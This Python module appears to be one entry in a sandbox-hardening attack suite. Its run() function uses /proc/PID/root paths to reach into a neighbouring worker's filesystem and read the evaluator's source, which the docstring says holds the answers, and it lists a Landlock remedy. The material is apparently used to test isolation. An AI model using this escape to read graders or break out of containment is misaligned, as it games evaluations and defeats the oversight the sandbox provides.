# SPDX-License-Identifier: MIT
"""Goal:  the evaluator's source, which holds the answers.
Means: /proc/PID/root is the root folder as the worker sees it. A student shut into another root, or
       kept from the name /var/task, walks through this door into the worker's.
"""

from attack import DONE, attempting, denied, loot, neighbours


def run(brief):
    why = "nobody else in sight"
    attempting()
    for pid in neighbours(brief):
        try:
            with open(f"/proc/{pid}/root/var/task/evaluator.py", "rb") as file:
                loot(file.read(65536))
            return DONE
        except OSError as error:
            why = error
    return denied("/proc/PID/root/var/task", why)


ATTACK = {
    "effect": "the evaluator's source is read through /proc",
    "means": "/proc/PID/root of the worker as the prefix of any path",
    "oracle": "secret:task",
    "id": "PROC-08",
    "attack_id": "T1005, CWE-22",
    "remedy": "Landlock (a domain may not trace its outside); a worker that is not dumpable",
    "refs": ["proc(5)"],
    "run": run,
}
